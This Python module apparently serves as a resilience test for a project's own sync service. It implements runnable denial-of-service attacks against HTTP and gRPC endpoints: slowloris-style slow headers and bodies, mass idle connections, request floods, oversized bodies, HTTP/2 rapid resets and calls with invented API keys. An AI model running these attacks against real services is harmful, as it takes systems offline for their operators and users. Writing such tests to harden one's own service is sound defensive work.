"""Attacks of strangers, each a process: `python -m edge.attacks NAME HTTP GRPC CLIENT_KEY`, until it is ended."""

import asyncio
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager, suppress

import h2.config
import h2.connection

MIB = 1024 * 1024
PUSH = "/syncline.v1.SyncService/Push"
Attack = Callable[[str, str, str], Awaitable[None]]


@asynccontextmanager
async def connected(address: str) -> AsyncIterator[tuple[asyncio.StreamReader, asyncio.StreamWriter]]:
    host, _, port = address.rpartition(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    try:
        yield reader, writer
    finally:
        writer.close()


def head(method: str, path: str, length: int, key: str = "sl_client_000000000000_0") -> bytes:
    named = f"host: x\r\nx-api-key: {key}\r\nauthorization: Bearer x\r\n"
    return f"{method} {path} HTTP/1.1\r\n{named}content-length: {length}\r\n\r\n".encode()


async def held(address: str, number: int, said: bytes, *, again: bytes = b"") -> None:
    """Hold connections open that have said so much; whichever is closed is opened again."""

    async def one() -> None:
        while True:
            with suppress(OSError):
                async with connected(address) as (reader, writer):
                    writer.write(said)
                    while again:
                        writer.write(again)
                        await writer.drain()
                        await asyncio.sleep(1)
                    while await reader.read(1 << 16):
                        pass
            await asyncio.sleep(0.5)

    async with asyncio.TaskGroup() as crowd:
        for _ in range(number):
            crowd.create_task(one())


async def flooded(address: str, senders: int, said: bytes) -> None:
    """Send the same again and again, each time when there is an answer."""

    async def one() -> None:
        while True:
            with suppress(OSError, TimeoutError):
                async with connected(address) as (reader, writer), asyncio.timeout(5):
                    writer.write(said)
                    await writer.drain()
                    await reader.read(1 << 16)

    async with asyncio.TaskGroup() as crowd:
        for _ in range(senders):
            crowd.create_task(one())


def metadata(key: str) -> list[tuple[str, str]]:
    pseudo = [(":method", "POST"), (":scheme", "http"), (":path", PUSH), (":authority", "x")]
    return [*pseudo, ("te", "trailers"), ("content-type", "application/grpc"), ("x-api-key", key)]


async def framed(address: str, calls: int, message: bytes, announced: int, *, resets: bool = False) -> None:
    """Begin calls over HTTP/2 again and again, with so much of a message, or resets in its place."""
    number = 0
    while True:
        frames = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        frames.initiate_connection()
        with suppress(OSError, TimeoutError):
            async with connected(address) as (reader, writer), asyncio.timeout(3):
                for _ in range(calls):
                    number += 1
                    stream = frames.get_next_available_stream_id()
                    frames.send_headers(stream, metadata(f"sl_client_{number:012}_0"))
                    if resets:
                        frames.reset_stream(stream)
                    elif announced:
                        data = struct.pack(">BI", 0, announced) + message
                        room = min(frames.local_flow_control_window(stream), 16_384)
                        frames.send_data(stream, data[:room])
                writer.write(frames.data_to_send())
                await writer.drain()
                while await reader.read(1 << 16):
                    pass
        await asyncio.sleep(0.05)


async def called(address: str, callers: int, message: bytes) -> None:
    """Call Push as a gRPC client does, each time when there is an answer."""
    from grpc import aio

    async def one(number: int) -> None:
        push = channel.unary_unary(PUSH)
        while True:
            number += callers
            with suppress(aio.AioRpcError):
                await push(message, metadata=(("x-api-key", f"sl_client_{number:012}_0"),), timeout=10)

    options = [("grpc.max_send_message_length", -1)]
    async with aio.insecure_channel(address, options=options) as channel, asyncio.TaskGroup() as crowd:
        for number in range(callers):
            crowd.create_task(one(number))


PREFACE = h2.connection.H2Connection()
PREFACE.initiate_connection()

PULL = "/client/sync?entity_type=t"

ATTACKS: dict[str, Attack] = {
    "quiet": lambda http, grpc, key: asyncio.sleep(3600),
    "1,000 silent connections, HTTP": lambda http, grpc, key: held(http, 1000, b""),
    "1,000 silent connections, gRPC": lambda http, grpc, key: held(grpc, 1000, b""),
    "600 heads that never end": lambda http, grpc, key: held(http, 600, b"GET / HTTP/1.1\r\n", again=b"a: b\r\n"),
    "600 bodies at 1 byte a second": lambda http, grpc, key: held(
        http, 600, head("POST", "/client/sync", 999), again=b" "
    ),
    "200 unfinished bodies of 4 MiB to /healthz": lambda http, grpc, key: held(
        http, 200, head("POST", "/healthz", 4 * MIB) + bytes(2 * MIB)
    ),
    "bodies of 4 MiB": lambda http, grpc, key: flooded(
        http, 4, head("POST", "/client/sync", 4 * MIB) + b'{"x":[' + b"[]," * (4 * MIB // 3 - 3)
    ),
    "requests with a wrong key": lambda http, grpc, key: flooded(http, 16, head("GET", PULL, 0)),
    "requests with a known key and no session": lambda http, grpc, key: flooded(http, 16, head("GET", PULL, 0, key)),
    "what is no HTTP": lambda http, grpc, key: flooded(http, 16, b"\0\r\n\r\n" * 100),
    "5,000 pipelined requests a connection": lambda http, grpc, key: flooded(
        http, 4, head("GET", "/healthz", 0) * 5000
    ),
    "300 idle connections of HTTP/2": lambda http, grpc, key: held(grpc, 300, bytes(PREFACE.data_to_send())),
    "100 unfinished messages of 4 MiB a connection": lambda http, grpc, key: framed(grpc, 100, bytes(4 * MIB), 4 * MIB),
    "1,000 calls begun and reset": lambda http, grpc, key: framed(grpc, 1000, b"", 0, resets=True),
    "messages of 4 MiB, of empty changes": lambda http, grpc, key: called(grpc, 8, b"\x0a\x00" * (2 * MIB - 16)),
    "calls with keys that nobody has": lambda http, grpc, key: called(grpc, 64, b""),
}


if __name__ == "__main__":
    name, *rest = sys.argv[1:]
    asyncio.run(ATTACKS[name](*rest))  # type: ignore[arg-type]
